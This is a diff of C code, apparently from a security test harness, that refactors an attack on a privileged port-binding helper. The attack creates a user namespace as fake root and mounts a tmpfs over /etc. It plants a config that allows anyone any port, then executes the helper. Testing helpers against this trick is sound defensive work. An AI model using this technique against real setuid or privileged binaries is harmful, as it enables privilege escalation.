@@ -27,6 +27,19 @@ static void execute_opened(const struct attack *how)
     syscall(SYS_execveat, helper, "", arguments, no_environment, AT_EMPTY_PATH);
 }
 
+/* In a namespace where he is uid 0 already he may not map it again (user_namespaces(7)). */
+static bool become_root_of_namespace(void)
+{
+    char map[64];
+    snprintf(map, sizeof map, "0 %u 1", (unsigned)geteuid());
+    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
+        return false;
+    const int fd = open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);
+    const bool is_mapped = write(fd, map, strlen(map)) == (ssize_t)strlen(map);
+    close(fd);
+    return is_mapped;
+}
+
 static void write_file(const char *path, const char *text)
 {
     FILE *file = fopen(path, "we");
@@ -37,19 +50,13 @@ static void write_file(const char *path, const char *text)
 /* Root of his own user namespace, with a policy of his own, and a socket of the network outside. */
 void own_user_namespace(void)
 {
-    char map[64], groups_map[64];
     const struct name name = name_of("0.0.0.0", PRIVILEGED);
     const int fd = attack_socket(AF_INET, SOCK_STREAM, 0);
     helper = open(SANDBOX_HELPER, O_PATH);
-    snprintf(map, sizeof map, "0 %u 1", (unsigned)geteuid());
-    snprintf(groups_map, sizeof groups_map, "0 %u 1", (unsigned)getegid());
-    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
+    if (!become_root_of_namespace()) {
         puts("no user namespace");
         return;
     }
-    write_file("/proc/self/setgroups", "deny");
-    write_file("/proc/self/uid_map", map);
-    write_file("/proc/self/gid_map", groups_map);
     if (mount("tmpfs", "/etc", "tmpfs", 0, "mode=755") != 0)
         err(EXIT_FAILURE, "mount");
     write_file("/etc/privbind.conf", "allow anyone any\n");
